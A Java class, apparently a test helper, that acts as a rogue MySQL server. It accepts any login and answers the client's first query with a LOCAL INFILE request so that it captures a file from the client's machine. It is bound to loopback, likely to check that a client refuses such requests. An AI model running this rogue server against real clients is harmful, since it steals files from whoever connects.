package io.cacheme.storage.mysql;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Path;
import java.util.concurrent.CompletableFuture;

/**
 * Speaks as much of MySQL's protocol as to let one client in, whatever its password, and answers
 * its first statement by asking for a file of the client's machine.
 */
final class ThievingServer implements AutoCloseable {

  private static final int OK = 0;
  private static final int LOCAL_INFILE = 0xFB;
  private static final int STATEMENT = 3;

  /** Protocol 4.1, its way of logging in by plugins, files of the client, a database by name. */
  private static final int CAPABILITIES = 0x0008_A289;

  private final ServerSocket listener = new ServerSocket(0, 5, InetAddress.getLoopbackAddress());
  private final CompletableFuture<String> taken = new CompletableFuture<>();
  private final Path wanted;

  ThievingServer(Path wanted) throws IOException {
    this.wanted = wanted;
    Thread thread = new Thread(this::serve, "thief");
    thread.setDaemon(true);
    thread.start();
  }

  int port() {
    return listener.getLocalPort();
  }

  /** All that the client sent after it was asked for the file, when it has no more to say. */
  CompletableFuture<String> taken() {
    return taken;
  }

  private void serve() {
    try (Socket socket = listener.accept()) {
      socket.setSoTimeout(2_000);
      InputStream in = socket.getInputStream();
      OutputStream out = socket.getOutputStream();
      send(out, 0, greeting());
      read(in);
      send(out, 2, new byte[] {OK, 0, 0, 2, 0, 0, 0});
      if (read(in)[0] != STATEMENT) {
        throw new IOException("the client sent no statement");
      }
      send(out, 1, request());
      taken.complete(rest(in));
    } catch (IOException | RuntimeException e) {
      taken.completeExceptionally(e);
    }
  }

  private static byte[] greeting() {
    ByteArrayOutputStream packet = new ByteArrayOutputStream();
    packet.write(10);
    packet.writeBytes("8.0.36\0".getBytes(ISO_8859_1));
    packet.writeBytes(new byte[] {1, 0, 0, 0});
    packet.writeBytes("12345678\0".getBytes(ISO_8859_1));
    packet.writeBytes(new byte[] {(byte) CAPABILITIES, (byte) (CAPABILITIES >> 8), 45, 2, 0});
    packet.writeBytes(new byte[] {CAPABILITIES >> 16, 0, 21});
    packet.writeBytes(new byte[10]);
    packet.writeBytes("123456789012\0mysql_native_password\0".getBytes(ISO_8859_1));
    return packet.toByteArray();
  }

  private byte[] request() {
    ByteArrayOutputStream packet = new ByteArrayOutputStream();
    packet.write(LOCAL_INFILE);
    packet.writeBytes(wanted.toString().getBytes(UTF_8));
    return packet.toByteArray();
  }

  private static void send(OutputStream out, int number, byte[] packet) throws IOException {
    out.write(new byte[] {(byte) packet.length, (byte) (packet.length >> 8), 0, (byte) number});
    out.write(packet);
    out.flush();
  }

  private static byte[] read(InputStream in) throws IOException {
    byte[] head = in.readNBytes(4);
    if (head.length < 4) {
      throw new EOFException("the client has gone");
    }
    return in.readNBytes((head[0] & 0xFF) | (head[1] & 0xFF) << 8 | (head[2] & 0xFF) << 16);
  }

  /** Until the client has closed, or says nothing for a while. */
  private static String rest(InputStream in) {
    ByteArrayOutputStream said = new ByteArrayOutputStream();
    try {
      in.transferTo(said);
    } catch (IOException ended) {
      return said.toString(ISO_8859_1);
    }
    return said.toString(ISO_8859_1);
  }

  @Override
  public void close() {
    try {
      listener.close();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
